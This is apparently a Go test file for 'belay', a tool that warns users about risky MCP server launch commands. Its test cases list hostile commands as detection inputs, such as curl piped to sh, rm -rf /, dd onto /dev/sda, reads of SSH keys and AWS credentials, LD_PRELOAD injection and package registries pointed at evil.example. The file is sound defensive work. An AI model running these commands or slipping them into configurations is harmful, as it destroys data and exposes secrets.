package cli

import (
	"strings"
	"testing"

	"belay/internal/requirements"
	"belay/mcpclient/config"
)

func TestWhatToMindInACommand(t *testing.T) {
	requirements.Rows(t, "SEC-04")
	const (
		shell, rights, deletes, fetches = "runs a line", "more rights", "deletes", "fetches"
		secrets, anybody, loads         = "secrets", "anybody", "load other code"
		shown, packages, way            = "arguments are shown", "packages come from elsewhere", "traffic elsewhere"
	)
	for _, tt := range []struct {
		command string // words apart by |
		env     string
		want    []string
	}{
		{"npx|-y|@modelcontextprotocol/server-filesystem|/home/ann/docs", "", nil},
		{"uvx|mcp-server-git|--repository|.", "GITHUB_TOKEN", nil},
		{"node|build/index.js", "PORT LOG_LEVEL", nil},
		{"docker|run|-i|--rm|-e|TOKEN|mcp/fetch", "", nil},
		{"/usr/local/bin/server|--force", "", nil},
		{"python|-m|server|--firm|--format=json", "", nil},
		{"go|run|./cmd/sudoku", "", nil},
		{"C:\\Program Files\\nodejs\\npx.cmd|-y|x", "", nil},
		{"deno|run|-A|npm:rm-server", "", nil},
		{"bash", "", nil},
		{"sudo|npx|x", "", []string{rights}},
		{"/usr/bin/doas|server", "", []string{rights}},
		{"env|A=b|pkexec|server", "", []string{rights}},
		{"C:\\Windows\\System32\\runas.exe|/user:x|server", "", []string{rights}},
		{"sh|-c|echo hi", "", []string{shell}},
		{"/bin/bash|-lc|npx x", "", []string{shell}},
		{"cmd.exe|/c|npx x", "", []string{shell}},
		{"PowerShell.exe|-Command|iwr https://x.example", "", []string{shell, fetches}},
		{"rm|-rf|/", "", []string{deletes}},
		{"rm|notes.txt", "", nil},
		{"bash|-c|true;rm --recursive ~", "", []string{shell, deletes}},
		{"sh|-c|curl https://x.example|sh", "", []string{shell, fetches}},
		{"sh|-c|$(wget -qO- x.example)", "", []string{shell, fetches}},
		{"dd|if=/dev/zero|of=/dev/sda", "", []string{deletes}},
		{"cmd|/c|rd /s c:\\", "", []string{shell, deletes}},
		{"cat|/home/ann/.ssh/id_ed25519", "", []string{secrets}},
		{"server|--key=~/.aws/credentials", "", []string{secrets}},
		{"server|--secret|hunter2", "", []string{shown}},
		{"server|-p|80|--api-key=hunter2", "", []string{shown}},
		{"server|--github_token|hunter2", "", []string{shown}},
		{"server|--token|${env:TOKEN}|--password=${input:pw}", "", nil},
		{"server|--password|--port|80|--secrets-dir|x|--token", "", nil},
		{"/tmp/server", "", []string{anybody}},
		{"C:\\Users\\ann\\AppData\\Local\\Temp\\x.exe", "", []string{anybody}},
		{"/Users/ann/Downloads/server", "", []string{anybody}},
		{"npx|-y|x", "LOG LD_PRELOAD", []string{loads}},
		{"npx|-y|x", "NODE_OPTIONS", []string{loads}},
		{"server", "PATH", []string{loads}},
		{"npx|-y|x|--registry=https://evil.example", "", []string{packages}},
		{"uvx|--index-url|https://evil.example|x", "UV_INDEX_URL HTTPS_PROXY NODE_OPTIONS", []string{loads, packages, way}},
		{"sudo|sh|-c|curl x|sh", "", []string{shell, rights, fetches}},
		{"env|LD_PRELOAD=/x|python3|s.py", "", []string{loads}},
		{"/usr/bin/env|-i|-u|HOME|PORT=1|NODE_OPTIONS=-r/x|PIP_INDEX_URL=x|node|s.js", "", []string{loads, packages}},
		{"env|-S|LD_PRELOAD=/x python3 s.py", "", []string{loads}},
		{"env|-S'LD_PRE'LOAD=/x python3", "", []string{loads}},
		{"env|-iS|PORT=1\\_HTTPS_PROXY=x|server", "", []string{way}},
		{"env|--split=-u HOME LD_AUDIT=/x sh -c x", "", []string{shell, loads}},
		{"env|--split-string|bash -c x", "", []string{shell}},
		{"env|-C|/srv|--unset=A|sh|-c|x", "", []string{shell}},
		{"env|PORT=1|server|LD_PRELOAD=x", "", nil},
		{"env|-u|LD_PRELOAD|server", "", nil},
		{"nice|sh|-c|x", "", []string{shell}},
		{"nice|-n|5|-10|--adjustment|3|bash|-c|x", "", []string{shell}},
		{"nohup|env|-|PATH=/x|server", "", []string{loads}},
		{"timeout|5|bash|-c|x", "", []string{shell}},
		{"timeout|-k|3|--signal=KILL|-s9|5|/tmp/server", "", []string{anybody}},
		{"stdbuf|-oL|-e|0|sh|-c|x", "", []string{shell}},
		{"setsid|--fork|--|sh|-c|x", "", []string{shell}},
		{"busybox|sh|-c|x", "", []string{shell}},
		{"xargs|-n|1|-I{}|sh|-c|x", "", []string{shell}},
		{"xargs|rm|-rf", "", []string{deletes}},
		{"sudo|-u|ann|LD_PRELOAD=/x|-E|server", "", []string{rights, loads}},
		{"doas|-u|ann|sh|-c|x", "", []string{shell, rights}},
		{"sudo|nice|-n5|timeout|1|env|-S|nohup sh -c x", "", []string{shell, rights}},
		{"env", "", nil},
		{"env|-S", "", nil},
		{"timeout|5", "", nil},
		{"nice|-n", "", nil},
		{strings.Repeat("env|", 100) + "sh|-c|x", "", nil}, // nobody reads that far
	} {
		var q sheet
		argv := strings.Split(tt.command, "|")
		q.risks(argv, []config.Launch{{Command: argv, Dir: "/home/ann"}}, strings.Fields(tt.env), "linux")
		ok := len(q.rows) == len(tt.want)
		for i := range min(len(q.rows), len(tt.want)) {
			ok = ok && strings.Contains(strings.Join(q.rows[i].lines(200, 0), " "), tt.want[i])
		}
		if !ok {
			t.Errorf("%s with %q: %v, want %q", tt.command, tt.env, q.rows, tt.want)
		}
	}
}

// A path is judged where it leads to from the directory of the entry, and an address that
// stands where a program does is said.
func TestWhatToMindInWhereAProgramComesFrom(t *testing.T) {
	const anybody, fetched = "is where anybody may put a program", "fetches what it runs from an address, whatever lies there on that day"
	for _, tt := range []struct{ command, dir, want string }{
		{"./x", "/tmp", "/tmp/: " + anybody},
		{"sub/x", "/var/tmp/y", "/var/tmp/: " + anybody},
		{"../../tmp/x", "/home/ann", "/tmp/: " + anybody},
		{"nohup|./x", "/dev/shm", "/dev/shm/: " + anybody},
		{"../x", "/tmp/y", "/tmp/: " + anybody},
		{`.\x`, "/tmp", "/tmp/: " + anybody},
		{"x", "/tmp", ""},
		{"../tmp/x", "/home/ann", ""},
		{"/opt/x", "/tmp", ""},
		{"./x", "", ""},
		{"deno|run|-A|https://x.example/s.ts", "/", "https:: " + fetched},
		{"deno|run|--allow-net|-c|d.json|data:text/javascript,x", "/", "data:: " + fetched},
		{"deno|run|-A|s.ts|https://x.example", "/", ""},
		{"deno|run|-A|npm:x", "/", ""},
		{"npx|-y|github:x/y", "/", "github:: " + fetched},
		{"npx|-y|https://x.example/y.tgz", "/", "https:: " + fetched},
		{"uvx|git+https://x.example/y", "/", "git+https:: " + fetched},
		{"npx|-y|mcp-remote|https://x.example/mcp", "/", ""},
	} {
		var q sheet
		argv := strings.Split(tt.command, "|")
		q.risks(argv, []config.Launch{{Command: argv, Dir: tt.dir}}, nil, "linux")
		got := ""
		for _, r := range q.rows {
			got += r.pieces[0].text + ": " + r.pieces[len(r.pieces)-1].text
		}
		if got != tt.want {
			t.Errorf("%s in %s: %q, want %q", tt.command, tt.dir, got, tt.want)
		}
	}
}

// A variable is judged by its name, as the programs read it: npm takes any case, and
// so does every program on Windows.
func TestWhatToMindInVariables(t *testing.T) {
	for about, names := range map[string]string{
		"load other code": "LD_PRELOAD LD_AUDIT DYLD_INSERT_LIBRARIES PATH NODE_OPTIONS BASH_ENV BASH_FUNC_echo%% PYTHONPATH PERL5LIB RUBYOPT GOFLAGS " +
			"GIT_SSH_COMMAND GIT_CONFIG_COUNT JAVA_TOOL_OPTIONS npm_config_script_shell npm_config_script-shell NPM_Config_Node_Options RUSTC_WRAPPER " +
			"TAR_OPTIONS TSX_TSCONFIG_PATH COREPACK_HOME NODE_COMPILE_CACHE NAPI_RS_NATIVE_LIBRARY_PATH BUN_INSTALL DENO_DIR UV_TOOL_DIR PIP_PYTHON PIPX_HOME RUBYGEMS_GEMDEPS GEMRC " +
			"GOCACHEPROG GOAUTH GIT_DIR GIT_ALLOW_PROTOCOL GRADLE_USER_HOME ASPNETCORE_HOSTINGSTARTUPASSEMBLIES DOTNET_GCName CustomBeforeMicrosoftCommonTargets " +
			"BUILDX_CONFIG COMPOSE_FILE SYSTEMD_PAGER TEXINPUTS GUILE_LOAD_PATH SBCL_HOME RIPGREP_CONFIG_PATH ODBCSYSINI npm_config_python PNPM_CONFIG_SCRIPT_SHELL RSYNC_RSH",
		"packages come from elsewhere": "NPM_CONFIG_REGISTRY npm_config_registry npm_config_@evil:registry PIP_INDEX_URL PIP_EXTRA_INDEX_URL UV_INDEX_URL UV_INDEX_X_USERNAME " +
			"UV_DEFAULT_INDEX GOPROXY GONOSUMDB CARGO_REGISTRIES_X_INDEX YARN_NPM_REGISTRY_SERVER BUN_CONFIG_REGISTRY RUSTUP_DIST_SERVER " +
			"GEM_SOURCE COREPACK_INTEGRITY_KEYS UV_NO_VERIFY_HASHES npm_config_sharp_binary_host CONTAINERS_REGISTRIES_CONF RestoreSources MVNW_REPOURL HEX_MIRROR DENO_NPM_REGISTRY PLAYWRIGHT_CHROMIUM_DOWNLOAD_HOST",
		"traffic elsewhere": "HTTP_PROXY https_proxy ALL_PROXY SSL_CERT_FILE NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED REQUESTS_CA_BUNDLE " +
			"SSLKEYLOGFILE npm_config_https_proxy npm_config_cafile GIT_SSL_NO_VERIFY " +
			"DOCKER_TLS_VERIFY DOCKER_CONTENT_TRUST WGETRC NETRC GODEBUG OPENAI_BASE_URL ANTHROPIC_BASE_URL TWINE_REPOSITORY_URL AWS_ENDPOINT_URL_S3 PNPM_CONFIG_STRICT_SSL",
		"": "PORT LOG_LEVEL GITHUB_TOKEN API_KEY DEBUG node_options ld_preload path gopath MY_PATH PATHS XLD_PRELOAD pip_index_url npm_config_loglevel PROXY PIPE " +
			"PATH2 NODE_ENV PYTHONUNBUFFERED LANG DATABASE_URL AWS_PROFILE AWS_REGION DOTNET_ENVIRONMENT ASPNETCORE_URLS GIT_TERMINAL_PROMPT GIT_AUTHOR_NAME UV_OFFLINE " +
			"PIP_DISABLE_PIP_VERSION_CHECK HF_TOKEN PGHOST TZ TERM DENO_NO_UPDATE_CHECK GOMAXPROCS GOMEMLIMIT DOCKER_DEFAULT_PLATFORM JULIA_NUM_THREADS PUPPETEER_SKIP_DOWNLOAD NUMBER COMPOSERS",
	} {
		for name := range strings.FieldsSeq(names) {
			var q sheet
			q.risks([]string{"server"}, []config.Launch{{Command: []string{"server"}}}, []string{"A", name, name}, "linux")
			switch {
			case about == "" && len(q.rows) > 0:
				t.Errorf("%s: %v", name, q.rows)
			case about == "":
			case len(q.rows) != 1:
				t.Errorf("%s: %d things to mind, want one about what can %s", name, len(q.rows), about)
			default:
				if got := strings.Join(q.rows[0].lines(200, 0), " "); !strings.HasPrefix(got, `  mind       "`+name+`" can `) || !strings.Contains(got, about) {
					t.Errorf("%s: %s", name, got)
				}
			}
		}
	}
	var q sheet
	q.risks([]string{"server"}, []config.Launch{{Command: []string{"server"}}}, []string{"node_options", "Path"}, "windows")
	if len(q.rows) != 1 || len(q.rows[0].pieces) != 3 {
		t.Errorf("on Windows: %v", q.rows)
	}
}

// An entry that its file has disabled is marked wherever it is shown, and not
// run without a word.
// Whoever changes the lists finds why a name is in them, and no name twice.
func TestNamesOfVariablesHaveReasons(t *testing.T) {
	seen := map[string]bool{}
	for _, list := range []string{loadingNames, loadingNamesAnyCase, sourceNames, sourceNamesAnyCase, wayNames, wayNamesAnyCase} {
		for line := range strings.Lines(list) {
			if line = strings.TrimSpace(line); line == "" {
				continue
			}
			names, why, _ := strings.Cut(line, ": ")
			if strings.TrimSpace(why) == "" {
				t.Errorf("%s: nobody knows why", line)
			}
			for name := range strings.FieldsSeq(names) {
				if seen[name] {
					t.Errorf("%s stands twice", name)
				}
				seen[name] = true
			}
		}
	}
}

func TestWhatAFileHasDisabledIsMarked(t *testing.T) {
	all := servers(t, `{"servers": {"off": {"command": "cat", "disabled": true}, "web": {"url": "https://a.example/mcp", "disabled": true}, "on": {"command": "cat", "disabled": false}}}`)
	for _, s := range all {
		talk, out := typing(t, "n\n")
		talk.mayRun(opened(t, s), config.Facts{}, "")
		if got := strings.Contains(out.String(), "\n  mind       the file has it disabled\n"); got != s.Disabled {
			t.Errorf("%s: marked %v in\n%s", s.Name, got, out)
		}
		if got := strings.HasSuffix(notice(s, nil), ", which has it disabled"); got != s.Disabled {
			t.Errorf("%s: %s", s.Name, notice(s, nil))
		}
	}
	talk, out := typing(t, "\n")
	if _, err := talk.pick(all, nil); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"off  disabled: cat ", "web  disabled: HTTP: https://a.example/mcp\n", "on   cat\n"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("%q is missing in\n%s", want, out)
		}
	}
}

func TestWhatToMindIsShown(t *testing.T) {
	requirements.Rows(t, "SEC-05")
	for text, want := range map[string]string{
		`{"servers": {"x": {"command": "cat", "args": ["${userHome}/.ssh/config"]}}}`: "\n  mind       \"/.ssh\" touches a place where secrets are\n",
		`{"servers": {"x": {"command": "sudo", "args": ["npx"]}}}`:                    "\n  mind       \"sudo\" asks for more rights than yours\n",
	} {
		talk, out := typing(t, "n\n")
		talk.mayRun(opened(t, servers(t, text)[0]), config.Facts{Home: "/home/ann"}, "")
		if !strings.Contains(out.String(), want) || !strings.Contains(out.String(), "the program runs with your\nrights") {
			t.Errorf("%q is missing in\n%s", want, out)
		}
	}
}

// A default is what the file wants to run, and a variable is what will run: both are judged
// as they will be put in, and shown as the file names them.
func TestWhatToMindInWhatReferencesStandFor(t *testing.T) {
	requirements.Rows(t, "SEC-04")
	facts := config.Facts{Home: "/home/ann", Dir: "/here", Env: func(name string) (string, bool) {
		value, set := map[string]string{"MY_SHELL": "/bin/bash", "EMPTY": "", "TOKEN": "s3cr3t", "WEB": "http://web.example"}[name]
		return value, set
	}}
	many := `"c0"` + strings.Repeat(`, "c"`, 256)
	inputs := `"inputs": [{"id": "sh", "type": "promptString", "default": "sudo"}, {"id": "free", "type": "promptString"},
		{"id": "cu", "type": "pickString", "options": ["a", "cu"]}, {"id": "rl", "type": "pickString", "options": ["b", "rl"]},
		{"id": "web", "type": "pickString", "options": ["https://a.example", "http://a.example"]},
		{"id": "scheme", "type": "pickString", "options": ["https", "http"]}, {"id": "at", "type": "pickString", "options": ["localhost", "a.example"]},
		{"id": "pick", "type": "pickString", "options": ["node", {"label": "Node", "value": "bash"}]}, {"id": "many", "type": "pickString", "options": [` + many + `]}]`
	for entry, want := range map[string]string{
		`"command": "${NOPE:-sh}", "args": ["-c", "x"]`:                              `"sh" runs a line of a shell`,
		`"command": "${EMPTY:-bash}", "args": ["-c", "x"]`:                           `"bash" runs a line of a shell`,
		`"command": "${env:NOPE:-/bin/sh}", "args": ["-c", "x"]`:                     `"sh" runs a line of a shell`,
		`"command": "${MY_SHELL}", "args": ["-c", "x"]`:                              `"bash" runs a line of a shell`,
		`"command": "env", "args": ["${X:-sh}", "-c", "x"]`:                          `"sh" runs a line of a shell`,
		`"command": "${input:sh}", "args": ["x"]`:                                    `"sudo" asks for more rights`,
		`"command": "${UNSET}${input:sh}", "args": ["sudo"]`:                         `"sudo" asks for more rights`,
		`"command": "x", "args": ["-c", "${A:-cu}${B:-rl} x.example"]`:               `"curl" fetches from the network`,
		`"command": "x", "args": ["${userHome}/${D:-.ssh}/id"]`:                      `"/.ssh" touches a place where secrets are`,
		`"command": "${D:-/tmp}/${TOKEN}/server"`:                                    `"/tmp/" is where anybody may put a program`,
		`"command": "env", "args": ["${V:-LD_PRELOAD}=/x", "PATH=/x", "srv"]`:        `"PATH" "LD_PRELOAD" can make the program load other code`,
		`"command": "x", "args": ["${R:---registry}=https://x.example"]`:             `"--registry" can make packages come from elsewhere`,
		`"url": "${WEB}/mcp", "headers": {"Authorization": "x"}`:                     `Authorization would be sent without TLS`,
		`"url": "${NOPE:-http://web.example}", "headers": {"X-Key": "${KEY}"}`:       `X-Key would be sent without TLS`,
		`"command": "x", "args": ["--token", "${TOKEN}", "--key=${TOKEN}"]`:          "",
		`"command": "${UNSET}", "args": ["${input:free}", "${input:gone}"]`:          "",
		`"command": "${TOKEN:-sh}", "args": ["-c", "x"]`:                             "",
		`"command": "${input:pick}", "args": ["-c", "x"]`:                            `"bash" runs a line of a shell`,
		`"command": "env", "args": ["${input:pick}", "-c", "x"]`:                     `"bash" runs a line of a shell`,
		`"command": "x", "args": ["-c", "${input:cu}${input:rl} x.example"]`:         `"curl" fetches from the network`,
		`"command": "env", "args": ["${input:pick}", "${input:cu}${input:rl}", "y"]`: `"bash" runs a line of a shell`,
		`"command": "x", "args": ["${input:many}", "${input:cu}"]`:                   `its inputs have more choices than belay looks through`,
		`"url": "${input:web}/mcp", "headers": {"X-Key": "x"}`:                       `X-Key would be sent without TLS with a choice of its inputs; you are asked again`,
		`"url": "${input:scheme}://${input:at}/mcp", "headers": {"X-Key": "x"}`:      `X-Key would be sent without TLS with a choice`,
		`"url": "${input:web}/${input:many}", "headers": {"Accept": "x"}`:            `its inputs have more choices than belay looks through`,
		`"url": "${input:at}", "headers": {"X-Key": "x"}`:                            "",
		`"command": "${input:many}"`:                                                 `its inputs have more choices than belay looks through`,
		`"command": "${MY_SHELL}"`:                                                   "",
	} {
		s := servers(t, `{"servers": {"x": {`+entry+`}}, `+inputs+`}`)[0]
		o, err := s.Open(facts)
		if err != nil {
			t.Fatal(err)
		}
		talk, out := typing(t, "n\n")
		talk.width = 120
		talk.mayRun(o, facts, "")
		if strings.Contains(out.String(), "s3cr3t") || strings.Contains(out.String(), "web.example") && !strings.Contains(entry, "web.example") {
			t.Errorf("%s: a value is shown in\n%s", entry, out)
		}
		if _, minded, is := strings.Cut(out.String(), "  mind       "); want == "" && is || !strings.HasPrefix(minded, want) {
			t.Errorf("%s: want %q in\n%s", entry, want, out)
		}
	}
}
